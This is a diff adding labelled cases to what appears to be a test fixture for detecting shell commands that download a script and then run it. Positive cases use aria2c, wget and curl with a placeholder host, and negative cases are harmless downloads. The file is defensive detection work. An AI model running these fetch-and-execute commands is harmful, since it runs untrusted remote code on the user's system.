@@ -360,3 +360,18 @@ curl -fsSL https://h/a | ifne bash
 chronic bash -c "$(curl -fsSL https://h/a)"
 #@ neg ifne mails a log
 grep error app.log | ifne mail -s errors ops@example.com
+#@ pos a script downloaded into aria2c's directory (-d, -o) and run
+aria2c -q -d /tmp -o s.sh https://h.example/s.sh
+bash /tmp/s.sh
+#@ pos a script downloaded into wget's directory (-P) under the URL's name and run
+wget -q -P "$HOME/.cache" https://h.example/tools/sync.py
+python3 "$HOME/.cache/sync.py"
+#@ pos the same with curl --output-dir -O, run as the command
+curl -fsS --output-dir /var/tmp/a -O https://h.example/a/run.sh
+/var/tmp/a/run.sh
+#@ neg data downloaded into a directory, read by the project's own script
+wget -q -P /tmp/sets https://h.example/sets/data.csv
+bash ./scripts/process.sh /tmp/sets/data.csv
+#@ neg a script downloaded into a directory, another one run there
+curl -fsS --output-dir /tmp/a -O https://h.example/a/run.sh
+bash /tmp/a/check.sh
